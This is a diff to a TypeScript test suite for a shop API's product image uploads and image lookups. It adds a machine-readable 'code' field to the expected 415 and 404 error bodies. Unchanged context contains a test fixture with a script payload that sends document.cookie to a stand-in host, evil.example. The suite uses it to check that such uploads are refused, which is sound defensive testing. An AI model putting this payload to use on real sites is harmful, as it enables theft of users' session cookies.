@@ -42,9 +42,9 @@ const form = (name: string, upload?: Upload) => {
 const send = (method: 'POST' | 'PUT', path: string, body: FormData, token = shop.admin) =>
   fetch(`${shop.gateway.url}${path}`, { method, headers: { authorization: `bearer ${token}` }, body })
 
-/** The refusal as a client reads it: status and the `{ message }` body. */
+/** The refusal as a client reads it: status and the `{ message, code }` body. */
 async function refusal(res: Response) {
-  return { status: res.status, body: (await res.json()) as { message: string } }
+  return { status: res.status, body: (await res.json()) as { message: string; code: string } }
 }
 
 const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
@@ -112,7 +112,7 @@ describe('product image uploads are judged by their bytes', () => {
   ])('refuses %s with a readable 415', async (_what, upload, message) => {
     expect(await refusal(await send('POST', '/product', form('Liar', upload)))).toEqual({
       status: 415,
-      body: { message },
+      body: { message, code: 'unsupported_media_type' },
     })
   })
 
@@ -130,7 +130,10 @@ describe('product image uploads are judged by their bytes', () => {
         ),
       ).toEqual({
         status: 415,
-        body: { message: `The file has data after the end of the ${format.toUpperCase()} image` },
+        body: {
+          message: `The file has data after the end of the ${format.toUpperCase()} image`,
+          code: 'unsupported_media_type',
+        },
       })
     },
   )
@@ -222,7 +225,10 @@ describe('image ids cannot reach outside the image store', () => {
 
   it('answers a well-formed id that names no image with 404', async () => {
     const res = await fetch(`${shop.gateway.url}/product/image/${'0'.repeat(32)}`)
-    expect(await refusal(res)).toEqual({ status: 404, body: { message: 'Image not found' } })
+    expect(await refusal(res)).toEqual({
+      status: 404,
+      body: { message: 'Image not found', code: 'not_found' },
+    })
   })
 })
 
